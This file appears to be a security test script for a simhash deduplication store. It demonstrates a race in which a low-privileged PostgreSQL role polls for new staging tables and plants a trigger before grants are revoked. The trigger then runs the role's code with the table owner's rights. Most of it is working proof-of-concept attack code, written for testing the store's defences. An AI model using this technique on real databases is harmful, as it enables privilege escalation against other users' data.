"""A run's staging table (simhash.dedup_staging_<hex>, made by the store's owner for dedup_dataset's Ray
workers) takes the owner's default privileges in schema simhash for a moment: made in one autocommit
statement, its grants revoked in later ones. Where those defaults give another role TRIGGER (ALTER
DEFAULT PRIVILEGES FOR ROLE owner IN SCHEMA simhash GRANT TRIGGER ON TABLES TO app, set by a
superuser at app's request, or by the owner for its own reasons), app, polling pg_class, puts a
trigger of its own function on the table before the REVOKE; the workers' COPY then runs app's code
with the owner's rights (app.stolen records current_user). The store's own checks refuse nothing
(no migration runs, so the default privileges are not looked at).

Usage: python hostile/h19r_staging_race.py  (env DB, OWNER, APP; run as a superuser-reachable root)."""

import os
import threading

import numpy as np
import psycopg
import pyarrow as pa

from simhash_store.keep import KeepPolicy
from simhash_store.store import Store, writes

DB = os.environ.get("DB", "h19r_db")
OWNER = os.environ.get("OWNER", "h19r_owner")
APP = os.environ.get("APP", "h19r_app")
ROOT = f"postgresql://root@127.0.0.1:5432/{DB}"
with psycopg.connect(ROOT, autocommit=True) as root:
    root.execute(f"ALTER DEFAULT PRIVILEGES FOR ROLE {OWNER} IN SCHEMA simhash GRANT TRIGGER ON TABLES TO {APP}")
with psycopg.connect(f"postgresql://{APP}@127.0.0.1:5432/{DB}", autocommit=True) as app:
    app.execute("CREATE SCHEMA IF NOT EXISTS app")
    app.execute("CREATE TABLE IF NOT EXISTS app.stolen (who text, at timestamptz DEFAULT now())")
    app.execute("GRANT USAGE ON SCHEMA app TO PUBLIC; GRANT INSERT ON app.stolen TO PUBLIC")
    app.execute(
        "CREATE OR REPLACE FUNCTION app.grab() RETURNS trigger LANGUAGE plpgsql AS "
        "$$BEGIN INSERT INTO app.stolen (who) VALUES (current_user); RETURN NEW; END$$"
    )

stop = threading.Event()
caught: list[str] = []


def attacker() -> None:
    with psycopg.connect(f"postgresql://{APP}@127.0.0.1:5432/{DB}", autocommit=True) as app:
        while not stop.is_set():
            rows = app.execute(
                "SELECT c.oid::regclass::text FROM pg_class c WHERE c.relname LIKE 'dedup_staging_%' "
                "AND has_table_privilege(c.oid, 'TRIGGER') "
                "AND NOT EXISTS (SELECT FROM pg_trigger t WHERE t.tgrelid = c.oid)"
            ).fetchall()
            for (table,) in rows:
                try:
                    app.execute(
                        f"CREATE TRIGGER grab BEFORE INSERT ON {table} FOR EACH ROW EXECUTE FUNCTION app.grab()"
                    )
                    caught.append(table)
                except psycopg.Error:
                    pass


thread = threading.Thread(target=attacker)
thread.start()
url = f"postgresql://{OWNER}@127.0.0.1:5432/{DB}"
store = Store(url)
store.recluster(4, keep=KeepPolicy.parse("first"))
values = np.array([1, 2, 3], dtype=np.uint64)
payload = writes.staged_payload(
    0,
    pa.array(["k1", "k2", "k3"]),
    values,
    pa.array([b"", b"", b""], pa.binary()),
    np.array([1, 1, 1]),
    np.array([0, 1, 2]),
    np.array([0, 1, 2]),
    np.array([1, 1, 1]),
)
try:
    for attempt in range(int(os.environ.get("TRIES", "200"))):
        try:
            with store.staging() as name:
                if name is None:
                    print("no staging table (refused)")
                    break
                store.stage_block(name, 0, payload)
        except Exception as exc:  # noqa: BLE001
            print(f"attempt {attempt}: {type(exc).__name__}: {str(exc)[:200]}")
            break
        if caught:
            break
finally:
    stop.set()
    thread.join()
    store.close()
with psycopg.connect(ROOT, autocommit=True) as root:
    print("trigger planted on:", caught[:3])
    print("app.stolen:", root.execute("SELECT who, count(*) FROM app.stolen GROUP BY who").fetchall())
    root.execute(f"ALTER DEFAULT PRIVILEGES FOR ROLE {OWNER} IN SCHEMA simhash REVOKE TRIGGER ON TABLES FROM {APP}")
